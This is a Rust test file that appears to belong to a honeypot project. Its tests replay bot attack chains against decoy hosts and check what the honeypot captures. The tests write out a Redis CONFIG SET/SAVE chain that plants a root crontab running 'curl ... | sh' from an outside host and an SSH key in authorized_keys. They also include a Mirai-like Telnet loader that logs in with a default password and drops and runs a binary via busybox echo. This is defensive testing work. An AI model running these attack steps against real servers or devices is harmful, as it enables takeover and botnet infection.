//! The chains that bots run: a crontab and a key through redis, a loader through Telnet.

use crate::{
    client_ssh::{OPTIONS, ssh},
    fleet::{Fleet, client, have, printed},
    telnet::Telnet,
};
use std::fmt::Write;

fn redis(fleet: &Fleet, words: &[&str]) -> String {
    let ip = fleet.ip(0);
    let arguments = [&["-h", &ip, "-p", "16379"], words].concat();
    printed(&client("redis-cli", &arguments)).trim().to_owned()
}

#[test]
fn redis_plants_a_crontab_and_a_key_that_the_shell_shows() {
    if !have("redis-cli", "redis-tools") || !have("sshpass", "sshpass") {
        return;
    }
    let fleet = Fleet::deploy(75, "accept-after=1");
    let key = "\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKBnB4mXyI9tJyNQpxCN0bLhcBdSWjY5rYvEpwEzr5wX r@x\n\n";
    let crontab = "\n* * * * * curl -fsSL http://198.51.100.7/x.sh|sh\n";
    for (folder, name, value) in
        [("/var/spool/cron/crontabs", "root", crontab), ("/root/.ssh/", "authorized_keys", key)]
    {
        for words in [
            &["FLUSHALL"][..],
            &["CONFIG", "SET", "dir", folder],
            &["CONFIG", "SET", "dbfilename", name],
            &["SET", "x", value],
            &["SAVE"],
        ] {
            assert_eq!(redis(&fleet, words), "OK", "{words:?}");
        }
        let path = format!("{}/{name}", folder.trim_end_matches('/'));
        let captured = fleet.wait_for_text("file_captured", "path", &path);
        let dump = fleet.artefact(captured["fields"]["sha256"].as_str().unwrap());
        assert!(dump.starts_with(b"REDIS0"));
        assert!(String::from_utf8_lossy(&dump).contains(value));
        let list = fleet.run(&["artifacts", "list"]);
        assert!(list.contains(&path), "{list}");
    }
    assert!(
        redis(&fleet, &["CONFIG", "SET", "dir", "/no/such/folder"]).contains("No such file or directory")
    );
    assert_eq!(redis(&fleet, &["CONFIG", "GET", "dir"]), "dir\n/root/.ssh");
    let seen = ssh(
        &fleet,
        "root",
        "crontab -l | strings | grep curl; grep -a -c ssh-ed25519 /root/.ssh/authorized_keys",
    );
    assert_eq!(seen, "* * * * * curl -fsSL http://198.51.100.7/x.sh|sh\n1\n");
}

#[test]
fn a_key_planted_through_redis_lets_its_owner_in() {
    if !have("redis-cli", "redis-tools") || !have("ssh-keygen", "openssh-client") {
        return;
    }
    let fleet = Fleet::deploy(70, "deny");
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("key").to_str().unwrap().to_owned();
    assert!(client("ssh-keygen", &["-q", "-t", "ed25519", "-N", "", "-f", &path]).status.success());
    let enter = || {
        let target = format!("root@{}", fleet.ip(0));
        let mut arguments = vec!["-p", "10022", "-i", &path, "-o", "BatchMode=yes"];
        arguments.extend(&OPTIONS[..OPTIONS.len() - 2]);
        arguments.extend([&target, "whoami; hostname > /tmp/was-here"]);
        printed(&client("ssh", &arguments))
    };
    assert!(enter().contains("Permission denied"));
    let public = format!("\n\n{}\n", std::fs::read_to_string(format!("{path}.pub")).unwrap());
    for words in [
        &["CONFIG", "SET", "dir", "/root/.ssh"][..],
        &["CONFIG", "SET", "dbfilename", "authorized_keys"],
        &["SET", "x", &public],
        &["SAVE"],
    ] {
        assert_eq!(redis(&fleet, words), "OK", "{words:?}");
    }
    assert_eq!(enter(), "root\n");
    fleet.wait_for_text("key_offer", "outcome", "rejected");
    fleet.wait_for_text("key_offer", "outcome", "accepted");
    fleet.wait_for_text("session_start", "auth_method", "publickey");
}

/// What a Mirai-like loader drops: a program with every byte value.
fn program() -> Vec<u8> {
    let mut bytes = b"\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    bytes.extend((0..=255).rev());
    bytes
}

#[test]
fn a_loader_over_telnet_is_answered_and_its_program_captured() {
    let fleet = Fleet::deploy(76, "accept-after=1");
    let mut telnet = Telnet::login(&fleet, "root", "xc3511");
    for line in ["enable", "system", "shell", "sh"] {
        telnet.send(line);
    }
    telnet.send("/bin/busybox MIRAI");
    telnet.wait("MIRAI: applet not found\r\n");
    assert!(telnet.run("cat /proc/mounts").contains(" / "));
    assert!(telnet.run("/bin/busybox ps").contains("PID"));
    assert!(telnet.run("cat /bin/echo | head -c 4 | od -An -tx1").contains("7f 45 4c 46"));
    assert!(telnet.run(">/dev/.t && cd /dev; rm -f .t; echo ok-$?").contains("ok-0"));
    assert!(telnet.run("/bin/busybox wget; /bin/busybox tftp").contains("BusyBox v"));
    assert!(telnet.run("cd /tmp; >.d; chmod 777 .d; pwd").contains("/tmp\r\n"));
    for chunk in program().chunks(64) {
        let hex = chunk.iter().fold(String::new(), |mut text, byte| {
            let _ = write!(text, "\\x{byte:02x}");
            text
        });
        telnet.run(&format!("/bin/busybox echo -ne '{hex}' >> .d"));
    }
    assert!(telnet.run("wc -c .d").contains(&format!("{} .d", program().len())));
    telnet.run("./.d telnet.selfrep; rm -rf .d");
    telnet.send("exit");
    drop(telnet);
    fleet.wait_for_text("auth_attempt", "secret_printable", "xc3511");
    fleet.wait_for_text("command", "command", "/bin/busybox MIRAI");
    fleet.wait_for_text("command", "command", "wc -c .d");
    fleet.wait_for("command", |events| {
        let run = |event: &&serde_json::Value| event["fields"]["outcome"] == "executed";
        events.iter().find(run).filter(|event| event["fields"]["path"] == "/tmp/.d").map(|_| ())
    });
    fleet.wait_for("file_captured", |events| {
        let hashes = events.iter().filter(|event| event["fields"]["path"] == "/tmp/.d");
        hashes
            .map(|event| fleet.artefact(event["fields"]["sha256"].as_str().unwrap()))
            .any(|content| content == program())
            .then_some(())
    });
}
